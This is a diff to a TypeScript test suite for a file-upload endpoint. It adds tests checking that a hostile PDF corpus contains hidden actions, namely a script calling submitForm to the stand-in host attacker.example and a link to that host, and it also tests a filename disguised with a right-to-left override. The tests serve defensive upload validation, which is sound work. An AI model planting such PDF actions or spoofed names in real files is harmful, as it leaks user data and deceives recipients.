@@ -8,6 +8,8 @@ import { SUBMIT_PATH } from '../../common/api/submission';
 import { VALID_FORM_DATA } from '../fixtures/form-examples';
 import { HOSTILE_UPLOADS, type HostileUpload } from '../fixtures/upload-corpus';
 import { compressedPdf, xlsBytes } from '../fixtures/active-documents';
+import { HOSTILE_PDFS, incrementallyUpdatedPdf } from '../fixtures/hostile-pdfs';
+import { whatReaderFinds } from '../setup/pdf-oracle';
 import { pdfBytes, pngBytes } from '../fixtures/files';
 import { xlsxBytes } from '../fixtures/zip-archive';
 import { startTestApp, type TestApp } from '../setup/test-app';
@@ -70,6 +72,20 @@ test('ordinary documents still pass: a plain PDF, one saved with object streams,
   expect(response.status, JSON.stringify(response.body)).toBe(200);
   expect(await testApp.services.prisma.leadFile.count({ where: { leadId: response.body.id } })).toBe(5);
 });
+
+test('a PDF saved again as an update (a new revision whose xref lists the changed object) still passes', async () => {
+  const response = await submit('invoices', [{ name: 'factura-actualizada.pdf', content: incrementallyUpdatedPdf() }]);
+  expect(response.status, JSON.stringify(response.body)).toBe(200);
+});
+
+test.each(HOSTILE_PDFS.filter((pdf) => pdf.readerSees).map((pdf) => [pdf.name, pdf] as const))(
+  'the corpus is hostile to a reader: pdf.js finds the hidden action (%s)',
+  async (_name, pdf) => {
+    const found = await whatReaderFinds(pdf.content);
+    if (pdf.readerSees === 'script') expect(found.scripts.join()).toContain('submitForm("https://attacker.example/x")');
+    else expect(found.links).toContain('Link "https://attacker.example/x"');
+  },
+);
 
 test("a right-to-left override is taken out of a real photo's name, so it reads as what it is", async () => {
   const response = await submit('invoices', [{ name: 'factura\u202eexe.png', content: pngBytes() }]);
